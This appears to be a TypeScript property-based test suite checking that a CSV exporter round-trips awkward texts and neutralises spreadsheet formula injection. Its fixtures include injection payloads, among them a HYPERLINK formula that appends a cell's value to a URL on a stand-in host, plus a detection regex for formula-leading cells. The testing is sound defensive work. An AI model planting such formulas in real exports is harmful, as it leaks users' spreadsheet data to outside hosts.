import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvLine, SEPARATORS, unguarded } from '#contract/csv.ts';
import type { Wording } from '#contract/wording.ts';
import { readCsv } from '#server/exchange/csv-read.ts';
import { writeCsv } from '#server/exchange/csv-write.ts';
import { Gathered } from '#server/exchange/file-text.ts';
import { wordingOf } from '#tests/support/records.ts';

const AWKWARD = [
  ...['=1+1', "'=1", "''=1", '\n=1+1', "'\n=1+1", '\t=1', "'\t", '+49 30', '-1', '@x', "'", "''"],
  ...['Termin;=HYPERLINK("https://x.example/?"&A1,"Klick");x', 'a,=1;=2\t=3', "a,'=1;''=2", "a, 'b', '+'"],
  ...['sagt "ja"', '"', '""', '";"', 'a\r\nb\rc\nd', '\r', '\n\n- eins\n- zwei', 'x\n\t+ y', 'x \n =y'],
  ...[
    '\u{1F9D1}\u200d\u2695\ufe0f',
    '\u202eabc',
    'שלום, ‏=1',
    'e\u0301',
    '\u00a0=1',
    '\ufeff=1',
    ';',
    ',',
    '\u2028=1',
  ],
];

const texts = fc.oneof(
  fc.constantFrom(...AWKWARD),
  fc
    .array(fc.constantFrom(...`=+-@'" ,;\t\r\nax1\u00a0`), { minLength: 1, maxLength: 12 })
    .map((characters) => characters.join('')),
  fc.string({ unit: 'grapheme', minLength: 1 }),
);

async function file(values: readonly string[], separator: (typeof SEPARATORS)[number]): Promise<string> {
  const pages = (async function* () {
    yield values.map((value, id): Wording => wordingOf({ id, identifier: `x${id}`, lang: 'de', value }));
  })();
  let written = '';
  for await (const piece of writeCsv(pages, separator, new Map())) written += piece;
  return written;
}

function valuesIn(pieces: readonly string[]): readonly string[] {
  const gathered = new Gathered(['de']);
  readCsv(pieces, gathered);
  expect(gathered.findingCount).toBe(0);
  return gathered.all().texts.map(({ value }) => value);
}

describe.each(SEPARATORS)('a file with %s between its cells', (separator) => {
  test('loses nothing of an awkward text', async () => {
    const written = await file(AWKWARD, separator);
    expect(written.startsWith('\ufeff')).toBe(true);
    expect(valuesIn([written.slice(1)])).toEqual(AWKWARD);
  });

  test('loses nothing of any text, in whatever pieces it is read', async () => {
    const property = fc.asyncProperty(
      fc.array(texts, { minLength: 1, maxLength: 5 }),
      fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1 }),
      async (values, lengths) => {
        const written = (await file(values, separator)).slice(1);
        expect(valuesIn(inPieces(written, lengths))).toEqual(values);
      },
    );
    await fc.assert(property, { numRuns: 500 });
  });

  test.each(SEPARATORS)('holds no formula for a spreadsheet that expects %s', (expected) => {
    // Who expects another separator takes quotation marks within a line for text.
    const property = fc.property(texts, (text) => {
      for (const cell of csvLine([text], separator).replace(/^"/, '').split(expected)) {
        expect(cell).not.toMatch(/^\s*(?:[=@]|[+-][^\s"])/);
      }
    });
    fc.assert(property, { numRuns: 500 });
  });
});

test('what was exported before texts were guarded within is read as it was', () => {
  expect(unguarded("'=1")).toBe('=1');
  expect(unguarded("''=2")).toBe("'=2");
  expect(unguarded("it's")).toBe("it's");
});

test('a text full of line breaks is guarded in one pass', () => {
  // Each of the breaks would be looked at once for every one behind it otherwise: some billions of steps.
  const text = '\n'.repeat(200_000);
  expect(csvLine([`${text}x`], ',')).toBe(`"${text}x"\r\n`);
  expect(unguarded(`${text}x`)).toBe(`${text}x`);
});

function inPieces(text: string, lengths: readonly number[]): string[] {
  const pieces: string[] = [];
  for (let at = 0, turn = 0; at < text.length; turn += 1) {
    const length = lengths[turn % lengths.length] ?? 1;
    pieces.push(text.slice(at, at + length));
    at += length;
  }
  return pieces;
}
